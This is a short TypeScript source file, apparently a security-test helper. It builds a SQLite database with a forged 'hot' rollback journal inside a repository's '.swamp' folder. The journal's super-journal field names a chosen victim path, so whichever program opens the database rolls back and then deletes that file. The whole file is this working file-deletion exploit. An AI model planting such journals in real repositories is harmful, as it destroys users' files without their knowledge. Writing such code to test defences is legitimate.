// SPDX-License-Identifier: MIT
/** State that a stranger puts below `.swamp` of a repository. */
import { DatabaseSync } from "node:sqlite";

const MAGIC = [0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7];
const SECTOR = 512;
const PAGE = 4096;

/**
 * A database with a journal that an interrupted transaction seems to have left. Whoever opens it rolls back, and then
 * deletes the file that the journal names: to SQLite that is the list of journals of a larger transaction.
 * @param victim a path, relative to the working directory of the program that opens the database.
 */
export function plantHotJournal(database: string, victim: string): void {
  Deno.mkdirSync(database.slice(0, database.lastIndexOf("/")), { recursive: true });
  const db = new DatabaseSync(database);
  db.exec(`PRAGMA page_size=${PAGE}; CREATE TABLE planted(x)`);
  db.close();
  const name = new TextEncoder().encode(victim);
  const bytes = new Uint8Array(SECTOR + 4 + name.length + 16);
  const view = new DataView(bytes.buffer);
  bytes.set(MAGIC);
  view.setUint32(16, Deno.statSync(database).size / PAGE);
  view.setUint32(20, SECTOR);
  view.setUint32(24, PAGE);
  view.setUint32(SECTOR, 0x40000000 / PAGE + 1);
  bytes.set(name, SECTOR + 4);
  view.setUint32(SECTOR + 4 + name.length, name.length);
  view.setUint32(SECTOR + 8 + name.length, name.reduce((sum, byte) => sum + byte, 0));
  bytes.set(MAGIC, SECTOR + 12 + name.length);
  Deno.writeFileSync(`${database}-journal`, bytes);
}
